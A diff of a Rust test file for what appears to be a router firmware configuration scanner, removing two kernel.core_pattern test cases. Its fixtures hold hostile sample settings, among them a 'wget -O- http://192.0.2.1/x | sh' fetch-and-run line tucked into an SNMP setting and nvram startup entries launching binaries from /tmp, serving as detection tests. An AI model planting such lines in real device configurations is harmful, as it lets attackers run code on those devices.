@@ -78,7 +78,6 @@ fn settings_that_run_what_does_not_belong_here() {
             "rocommunity x\nsh a wget -O- http://192.0.2.1/x | sh\n".to_owned(),
             "startup-dropper infected 2",
         ),
-        ("etc/sysctl.d/x.conf", "kernel.core_pattern=|/tmp/x %p\n".to_owned(), "config-include suspicious 1"),
         ("nvram.txt", "a_b=c\nrc_startup=\ncd /tmp\n./x &\n".to_owned(), "startup-volatile suspicious 4"),
         (
             "tmp/nvram.bin",
@@ -126,7 +125,6 @@ fn healthy_settings_are_silent() {
         .file("etc/config/uhttpd", "config uhttpd main\n\tlist interpreter '.php=/usr/bin/php-cgi'\n")
         .file("etc/config/openvpn", "config openvpn a\n\toption enabled 0\n\toption up '/tmp/x'\n")
         .file("etc/inetd.conf", "#telnet stream tcp nowait root /usr/sbin/telnetd telnetd\n")
-        .file("etc/sysctl.d/10-default.conf", "kernel.core_pattern=/tmp/%e.%t.%p.%s.core\n")
         .file("etc/zabbix_agentd.conf", "UserParameter=net.list,ls /sys/class/net | tr '\\n' ' '\n")
         .file("etc/ppp/options", "#debug\nlogfile /dev/null\nnoipdefault\n")
         .file("nvram.txt", "rc_startup=echo 1 > /proc/sys/x\nwl0_ssid=it's | me\nscript_init=\nlan_x=1\n");
